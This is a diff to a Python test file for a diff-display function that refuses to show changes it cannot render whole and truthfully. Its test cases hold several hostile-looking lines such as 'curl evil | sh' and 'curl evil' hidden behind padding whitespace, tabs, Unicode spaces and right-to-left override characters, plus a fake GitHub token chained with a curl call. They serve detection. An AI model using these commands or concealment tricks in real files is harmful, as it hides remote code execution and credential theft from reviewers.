@@ -9,10 +9,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from app.publish.true_diff import LINES, true_diff
+from app.core.redact import Redactor
+from app.publish.true_diff import LINE, LINES, true_diff
 from app.sandbox.repo import Change, Status
 
 ROOM = 10**6
+KNOWN = Redactor(["canary-of-this-server"])
 NONE = "0" * 40
 NO_LIES: Mapping[str, bytes] = {}
 
@@ -28,11 +30,11 @@ def diff(before: bytes | None, new: bytes | None, limit: int = ROOM, lies: Mappi
     old_sha, sha = (NONE if content is None else blob(content) for content in (before, new))
     change = Change("rules.md", status, old_mode, mode, old_sha, sha, len(new or b""), False)
     old, other = lies.get("before", before), lies.get("new", new)
-    return true_diff([change], {"rules.md": old or b""}, {"rules.md": other or b""}, limit)
+    return true_diff([change], {"rules.md": old or b""}, {"rules.md": other or b""}, limit, KNOWN)
 
 
-LINE = st.text(st.characters(codec="utf-8", exclude_characters="\n\0\r\u2028\u2029"), max_size=3)
-TEXT = st.builds(lambda lines, end: "\n".join(lines) + end, st.lists(LINE, max_size=12), st.sampled_from(("", "\n")))
+WORDS = st.text(st.characters(codec="utf-8", exclude_characters="\n\0\r\u2028\u2029"), max_size=3)
+TEXT = st.builds(lambda lines, end: "\n".join(lines) + end, st.lists(WORDS, max_size=12), st.sampled_from(("", "\n")))
 
 
 @pytest.mark.parametrize(
@@ -102,6 +104,15 @@ def test_far_apart_lines_of_a_long_file_are_shown_where_they_are() -> None:
         (None, "x = 1\u2028 import evil\n".encode(), ROOM, {}),
         (None, b"curl evil | sh\n", ROOM, {"new": b"echo good\n"}),
         (b"safe\n", b"evil\n", ROOM, {"before": b"evil\n"}),
+        (None, b"gh=ghp_" + b"a" * 36 + b".;curl.evil\n", ROOM, {}),
+        (b"a canary-of-this-server\nb\n", b"a canary-of-this-server\nB\n", ROOM, {}),
+        (None, b"# ok" + b" " * 41 + b"; curl evil\n", ROOM, {}),
+        (None, b"# ok\t\t\t\t\t\t; curl evil\n", ROOM, {}),
+        (None, "# ok{}; curl evil\n".format("\u3000\xa0\u2800" * 14).encode(), ROOM, {}),
+        (None, b" " * 81 + b"curl evil\n", ROOM, {}),
+        (None, b"# ok" + b"." * LINE + b"\ncurl evil\n", ROOM, {}),
+        (None, "# ok{}\ncurl evil\n".format("\u202e" * 99).encode(), ROOM, {}),
+        (b"a" + b" " * 41 + b"safe\n", b"a\n", ROOM, {}),
     ],
 )
 def test_what_can_not_be_shown_whole_and_true_is_not_shown(
@@ -111,13 +122,25 @@ def test_what_can_not_be_shown_whole_and_true_is_not_shown(
     assert diff(before, new, limit, lies) is None
 
 
+@pytest.mark.parametrize(
+    ("before", "new"),
+    [
+        (None, "x" * LINE + "\n"),
+        (None, "\t" * 10 + "x" + " " * 40 + "# aligned\n"),
+        (f"{'x' * 9999}\na\n", f"{'x' * 9999}\nA\n"),
+    ],
+)
+def test_lines_that_stay_may_be_long_and_others_reach_far(before: str | None, new: str) -> None:
+    assert diff(None if before is None else before.encode(), new.encode())
+
+
 def test_modes_and_links_are_said() -> None:
     run = Change("run.sh", "M", "100644", "100755", blob(b"x"), blob(b"x"), 1, False)
-    assert true_diff([run], {"run.sh": b"x"}, {"run.sh": b"x"}, ROOM) == (
+    assert true_diff([run], {"run.sh": b"x"}, {"run.sh": b"x"}, ROOM, KNOWN) == (
         "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
     )
     link = Change("l", "A", "000000", "120000", NONE, blob(b"../up"), 5, False)
-    shown = true_diff([link], {}, {"l": b"../up"}, ROOM)
+    shown = true_diff([link], {}, {"l": b"../up"}, ROOM, KNOWN)
     assert shown
     assert "new file mode 120000" in shown
     assert "+../up" in shown
